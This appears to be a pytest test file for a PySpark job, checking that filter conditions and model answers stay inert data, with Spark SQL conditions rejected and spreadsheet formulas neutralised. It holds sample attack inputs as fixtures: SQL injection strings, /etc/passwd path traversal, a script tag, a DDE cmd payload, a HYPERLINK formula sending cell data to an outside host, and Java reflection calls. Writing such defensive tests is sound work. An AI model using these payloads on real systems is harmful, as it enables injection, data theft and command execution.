"""What people and models write stays data: conditions only look at a row, answers are no SQL, paths or formulas."""

import csv
from collections.abc import Iterator
from pathlib import Path

import pytest
from pyspark.sql import DataFrame, SparkSession

from jobs.conditions import narrowed
from jobs.plan import plan
from jobs.review import sample
from jobs.rows import read_rows
from jobs.sheet import FORMULA, harmless
from jobs.undo import undo
from jobs.verdicts import write_sheet
from schemas.errors import JobFileError
from schemas.mix import Prompts
from schemas.options import RunOptions
from tests.scripted_endpoint import Asked
from tests.shop import TOPIC, Shop

DDL = "id long, text string"
OUTPUTS = (
    "'; DROP TABLE t; --",
    "` OR 1=1 --",
    "\\' || (SELECT max(text) FROM t) || '",
    "${env:HOME} {{ 7 * 7 }} %s %(x)s",
    "../../../etc/passwd",
    "file:///etc/passwd",
    "<script>alert(1)</script>",
    '=HYPERLINK("https://x.example/?" & A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "＝1+1",
)


@pytest.fixture(scope="module")
def rows(spark: SparkSession) -> Iterator[DataFrame]:
    # a session may call one of its own functions like one that is built in
    spark.udf.register("upper", lambda text: text)
    spark.udf.register("mine", lambda text: True, "boolean")
    spark.createDataFrame([(1,)], "id long").createOrReplaceTempView("other")
    yield spark.createDataFrame([(1, "refund"), (2, "Delivery"), (3, None)], DDL)
    for name in ("upper", "mine"):
        spark.sql(f"DROP TEMPORARY FUNCTION IF EXISTS {name}")
    spark.catalog.dropTempView("other")


@pytest.mark.parametrize(
    ("condition", "says"),
    [
        ("id IN (SELECT id FROM other)", "without a subquery"),
        ("EXISTS (SELECT 1)", "without a subquery"),
        ("id = (SELECT max(id) FROM other)", "without a subquery"),
        ("length(text) > (SELECT 1)", "without a subquery"),
        ("reflect('java.lang.System', 'exit', 1) = 0", "without the function reflect"),
        ("JAVA_METHOD('java.lang.Runtime', 'getRuntime') IS NULL", "without the function JAVA_METHOD"),
        ("coalesce(try_reflect('java.lang.System', 'getenv'), '') = ''", "without the function try_reflect"),
        ("raise_error(text) IS NULL", "without the function raise_error"),
        ("assert_true(id > 5) IS NULL", "without the function assert_true"),
        ("ai_query('m', text) = 'yes'", "without the function ai_query"),
        ("default.mine(text)", "without the function default.mine"),
        ("mine(text)", "without the function mine"),
        ("upper(text) = 'A'", "without the function upper"),
        ("rand() > 0.5", "that says the same each time"),
        ("uuid() = text", "that says the same each time"),
        ("id > 1; DROP TABLE t", "is not a condition"),
        ("id > 1) OR (1 = 1", "is not a condition"),
        ("nothing = 1", "is not a condition"),
    ],
)
def test_a_condition_is_only_a_look_at_the_row(rows: DataFrame, condition: str, says: str) -> None:
    with pytest.raises(JobFileError, match=says):
        narrowed(rows, condition, what="where is not a condition over t")


def test_an_ordinary_condition_narrows(rows: DataFrame) -> None:
    ordinary = "lower(text) LIKE '%e%' AND id BETWEEN 1 AND 5 AND CASE WHEN text IS NULL THEN false ELSE true END"
    assert narrowed(rows, ordinary, what="where").count() == 2
    assert narrowed(rows, "text IN ('refund') OR id = cast('3' AS int)", what="where").count() == 2


def test_answers_that_read_like_sql_or_a_path_are_values(shop: Shop, tmp_path: Path) -> None:
    shop.write([(at, f"cell {at}") for at in range(len(OUTPUTS))], DDL)
    before = {path.name for path in tmp_path.iterdir()}

    def script(asked: Asked) -> str:
        return OUTPUTS[int(asked.text.partition("cell ")[2].split()[0])]

    shop.endpoint.script = script
    task = {"task": "answer", "name": "said", "from": ["text"], "question": "What?"}
    job = shop.job(task, accept=0.0)
    result = shop.run(job)
    rows = shop.rows()
    assert [rows[at]["said"] for at in range(len(OUTPUTS))] == list(OUTPUTS)
    assert {path.name for path in tmp_path.iterdir()} - before <= {"t_burnish"}
    # the sheet for people: nothing that a spreadsheet would run
    sample(shop.spark, job, rows=len(OUTPUTS))
    write_sheet(shop.spark, job, tmp_path / "sheet.csv")
    with (tmp_path / "sheet.csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.DictReader(file) for cell in row.values()]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell.startswith(FORMULA)] == []
    undo(shop.spark, job, run_id=result.run_id)
    assert {row["said"] for row in shop.rows().values()} == {None}


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠x"])
def test_a_formula_is_led_by_an_apostrophe_in_a_sheet(text: str) -> None:
    assert harmless(text) == f"'{text}"
    assert harmless(f"a{text}") == f"a{text}"


def test_every_condition_is_looked_at(shop: Shop) -> None:
    shop.write([(1, "refund")], DDL)
    job = shop.job(TOPIC)
    run_id = shop.run(job).run_id
    shop.endpoint.taken()
    sneaky = "id IN (SELECT 1)"
    with pytest.raises(JobFileError, match=r"source\.where is not a condition .* without a subquery"):
        plan(shop.spark, shop.job(TOPIC, source={"path": shop.path, "where": sneaky}), options=RunOptions())
    with pytest.raises(JobFileError, match=r"--where is not a condition .* without a subquery"):
        undo(shop.spark, job, run_id=run_id, where=sneaky)
    with pytest.raises(JobFileError, match=r"where is not a condition .* without a subquery"):
        read_rows(shop.spark, Prompts(kind="prompts", name="p", path=shop.path, where=sneaky))
    with pytest.raises(ValueError, match="takes a name of one to three parts"):
        shop.job(TOPIC, source={"table": "t; DROP TABLE u"})
    assert not shop.endpoint.taken()
